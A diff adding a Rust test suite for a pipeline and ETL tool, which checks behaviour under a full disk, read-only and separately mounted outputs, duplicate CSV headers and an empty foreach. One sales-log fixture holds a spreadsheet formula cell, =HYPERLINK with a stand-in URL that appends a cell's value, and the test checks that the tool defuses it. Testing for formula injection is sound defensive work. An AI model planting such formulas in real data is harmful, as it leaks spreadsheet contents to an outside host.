@@ -1,0 +1,206 @@
+//! The fault suite: a full disk, read-only and cross-device outputs, hostile cells and headers.
+//! Each asserts that earlier good outputs stay intact, the error names the cause, the next run
+//! completes and `audit` passes. The filesystem cases mount a small tmpfs, which needs root (CI
+//! runs as root); elsewhere they say so and pass without checking.
+
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+use crate::support::{with_status, Ws};
+
+/// A tmpfs mounted for the life of the value.
+struct Tmpfs(PathBuf);
+
+impl Tmpfs {
+    fn mount(at: &Path, size: &str) -> Option<Tmpfs> {
+        std::fs::create_dir_all(at).unwrap();
+        let ok = Command::new("mount")
+            .args(["-t", "tmpfs", "-o", &format!("size={size}"), "tmpfs"])
+            .arg(at)
+            .output()
+            .is_ok_and(|o| o.status.success());
+        if !ok {
+            eprintln!("skipped: cannot mount a tmpfs here (not root?)");
+        }
+        ok.then(|| Tmpfs(at.to_path_buf()))
+    }
+    fn remount(&self, opts: &str) {
+        let o = Command::new("mount")
+            .args(["-o", &format!("remount,{opts}")])
+            .arg(&self.0)
+            .output()
+            .unwrap();
+        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+    }
+}
+
+impl Drop for Tmpfs {
+    fn drop(&mut self) {
+        let _ = Command::new("umount").arg("-l").arg(&self.0).status();
+    }
+}
+
+fn writer(mb: u32) -> String {
+    format!("dd if=/dev/zero of={{out.0}} bs=1M count={mb} 2>&1")
+}
+
+#[test]
+fn a_full_disk_fails_with_exit_6_names_the_cause_and_leaves_the_log_whole() {
+    let outer = tempfile::tempdir().unwrap();
+    let root = outer.path().join("ws");
+    let Some(_fs) = Tmpfs::mount(&root, "6m") else {
+        return;
+    };
+    let ws = Ws {
+        dir: tempfile::tempdir_in(&root).unwrap(),
+    };
+    let manifest = |b_mb: u32| {
+        format!(
+            "nodes:\n  a:\n    cmd: {}\n    outputs: [outputs/a.bin]\n  b:\n    cmd: {}\n    needs: [a]\n    outputs: [outputs/b.bin]\n",
+            writer(2),
+            writer(b_mb)
+        )
+    };
+    ws.write("pipeline.yaml", &manifest(5));
+    let r = ws.run(&["run"]);
+    assert_eq!(r.code, 6, "{}", r.stderr);
+    assert!(
+        r.stderr.contains("No space left on device")
+            || r.stderr.contains("no space left on device"),
+        "{}",
+        r.stderr
+    );
+    assert_eq!(
+        std::fs::metadata(ws.path("outputs/a.bin")).unwrap().len(),
+        2 << 20
+    );
+    // The partial output was not kept: it would hold the disk full.
+    assert!(!ws.path("cache/failed/b").exists());
+    // The log is whole and the next run, with room, completes.
+    ws.run(&["audit"]).ok();
+    ws.write("pipeline.yaml", &manifest(1));
+    let (rep, _) = ws.run_json(&[]);
+    assert_eq!(with_status(&rep, "built"), ["b"]);
+    ws.run(&["audit"]).ok();
+}
+
+#[test]
+fn a_full_disk_under_a_built_in_stage_is_exit_6_not_a_panic() {
+    let outer = tempfile::tempdir().unwrap();
+    let root = outer.path().join("ws");
+    let Some(_fs) = Tmpfs::mount(&root, "2m") else {
+        return;
+    };
+    let ws = Ws {
+        dir: tempfile::tempdir_in(&root).unwrap(),
+    };
+    // Fill the disk, then run a stage (its worker writes a job file, a log and outputs).
+    ws.write(
+        "pipeline.yaml",
+        "nodes:\n  a:\n    stage: probe\n    params: {message: hi}\n",
+    );
+    let filler = ws.path("filler");
+    let _ = Command::new("dd")
+        .args(["if=/dev/zero", "bs=64k", "count=64"])
+        .arg(format!("of={}", filler.display()))
+        .output();
+    let r = ws.run(&["run"]);
+    assert_eq!(r.code, 6, "{}", r.stderr);
+    assert!(!r.stderr.contains("code 101"), "{}", r.stderr);
+    assert!(
+        r.stderr.to_lowercase().contains("no space left on device"),
+        "{}",
+        r.stderr
+    );
+    std::fs::remove_file(&filler).unwrap();
+    ws.run(&["run"]).ok();
+    ws.run(&["audit"]).ok();
+}
+
+#[test]
+fn outputs_on_their_own_mount_publish_by_copy_and_read_only_outputs_are_exit_6() {
+    let ws = Ws::new(
+        "nodes:\n  a:\n    cmd: echo one > {out.0}\n    outputs: [outputs/a.txt]\n  p:\n    stage: probe\n    params: {message: one}\n",
+    );
+    let Some(fs) = Tmpfs::mount(&ws.path("outputs"), "4m") else {
+        return;
+    };
+    ws.run(&["run"]).ok();
+    assert_eq!(ws.read("outputs/a.txt"), "one\n");
+    // A directory output replaced across the mount.
+    ws.write(
+        "pipeline.yaml",
+        "nodes:\n  a:\n    cmd: echo two > {out.0}\n    outputs: [outputs/a.txt]\n  p:\n    stage: probe\n    params: {message: two}\n",
+    );
+    ws.run(&["run"]).ok();
+    assert_eq!(ws.read("outputs/a.txt"), "two\n");
+    assert!(ws.read("outputs/p/probe.txt").contains("two"));
+    ws.run(&["audit"]).ok();
+    // Read-only: the publish fails with the path, and what was there stays.
+    fs.remount("ro");
+    ws.write(
+        "pipeline.yaml",
+        "nodes:\n  a:\n    cmd: echo three > {out.0}\n    outputs: [outputs/a.txt]\n  p:\n    stage: probe\n    params: {message: two}\n",
+    );
+    let r = ws.run(&["run"]);
+    assert_eq!(r.code, 6, "{}", r.stderr);
+    assert!(r.stderr.contains("outputs"), "{}", r.stderr);
+    assert_eq!(ws.read("outputs/a.txt"), "two\n");
+    fs.remount("rw");
+    ws.run(&["run"]).ok();
+    assert_eq!(ws.read("outputs/a.txt"), "three\n");
+    ws.run(&["audit"]).ok();
+}
+
+#[test]
+fn formula_cells_duplicated_headers_and_crlf_rows_in_a_sales_log() {
+    let ws = Ws::new("nodes: {}\n");
+    ws.write(
+        "stages/sku_map.csv",
+        "gp_column,qty_column,division\nSWX_Core,SWX_Core_Qty,Solidworks\n",
+    );
+    ws.write(
+        "etl.yaml",
+        "paths:\n  sales_log: log.csv\n  sku_map: stages/sku_map.csv\nmax_bad_date_share: 0.5\n",
+    );
+    // CRLF line ends; row 3 has a formula where a date should be.
+    let log = "CustomerId,Rec Date,Customer,SWX_Core,SWX_Core_Qty\r\n\
+               1,2024-01-02,Acme,10,1\r\n\
+               2,=HYPERLINK(\"http://x/?\"&A1),Bolt,5,1\r\n\
+               3,2024-01-04,Cobalt,7,1\r\n";
+    ws.write("log.csv", log);
+    ws.run(&["etl", "build-star", "--config", "etl.yaml"]).ok();
+    let v = ws.read("outputs/qa/violations.csv");
+    let bad = v
+        .lines()
+        .find(|l| l.starts_with("unparseable_date"))
+        .unwrap();
+    // The data row is file line 3, CRLF or not; the formula is defused for spreadsheets.
+    assert!(bad.contains(",3,Rec Date,"), "{bad}");
+    assert!(bad.contains("\"'=HYPERLINK("), "{bad}");
+    // A product column written twice: which copy is the GP is unknowable, so it blocks.
+    ws.write(
+        "log.csv",
+        "CustomerId,Rec Date,SWX_Core,SWX_Core_Qty,SWX_Core\n1,2024-01-02,10,1,41000000\n",
+    );
+    let r = ws
+        .run(&["etl", "build-star", "--config", "etl.yaml"])
+        .code(10);
+    assert!(r.stderr.contains("duplicate_column"), "{}", r.stderr);
+    assert!(ws
+        .read("outputs/qa/violations.csv")
+        .contains("header `SWX_Core` appears 2 times (columns 3, 5)"));
+}
+
+#[test]
+fn an_empty_foreach_is_an_error_not_a_silent_drop() {
+    let ws = Ws::new(
+        "vars:\n  ds: {from_csv: d.csv, column: d}\nnodes:\n  a:\n    cmd: echo {d} > {out.0}\n    foreach: {d: $ds}\n    outputs: [\"outputs/{d}.txt\"]\n",
+    );
+    ws.write("d.csv", "d\nx\n");
+    ws.run(&["run"]).ok();
+    ws.write("d.csv", "d\n");
+    let r = ws.run(&["run"]).code(3);
+    assert!(r.stderr.contains("no values"), "{}", r.stderr);
+    assert!(ws.read("pipeline.lock").contains("a@x"));
+}
